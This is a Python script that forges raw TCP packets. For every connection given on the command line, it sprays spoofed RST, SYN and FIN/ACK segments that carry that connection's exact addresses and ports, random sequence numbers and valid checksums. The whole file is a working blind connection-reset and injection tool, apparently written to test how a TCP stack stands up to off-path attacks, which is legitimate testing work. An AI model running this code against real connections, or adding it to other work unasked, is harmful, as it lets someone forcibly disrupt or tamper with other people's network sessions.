#!/usr/bin/env python3
"""An off-path sender on the client's host: for every TCP connection given, forge RSTs, SYNs and
FIN/ACKs with its exact 4-tuple and random sequence and acknowledgement numbers.
usage: tcp_spray.py ROUNDS SRC:PORT-DST:PORT...
Each round sends one RST, one SYN and one FIN/ACK per connection, 1 ms apart: 3 x ROUNDS x the
connections, nothing else. Prints the count sent."""
import random, socket, struct, sys, time
from pktlib import csum, ipv4, raw_sender

RST, SYN, FIN, ACK = 0x04, 0x02, 0x01, 0x10

def tcp(src, sport, dst, dport, flags, seq, ack):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr))
    return hdr[:16] + struct.pack("!H", csum(pseudo + hdr)) + hdr[18:]

rounds = int(sys.argv[1])
conns = []
for arg in sys.argv[2:]:
    a, b = arg.split("-")
    (src, sport), (dst, dport) = a.rsplit(":", 1), b.rsplit(":", 1)
    conns.append((src, int(sport), dst, int(dport)))
s = raw_sender()
sent = 0
for _ in range(rounds):
    for src, sport, dst, dport in conns:
        for flags in (RST, SYN, FIN | ACK):
            seg = tcp(src, sport, dst, dport, flags, random.getrandbits(32),
                      random.getrandbits(32) if flags & ACK else 0)
            s.sendto(ipv4(src, dst, 6, seg), (dst, 0))
            sent += 1
            time.sleep(0.001)
print(sent)
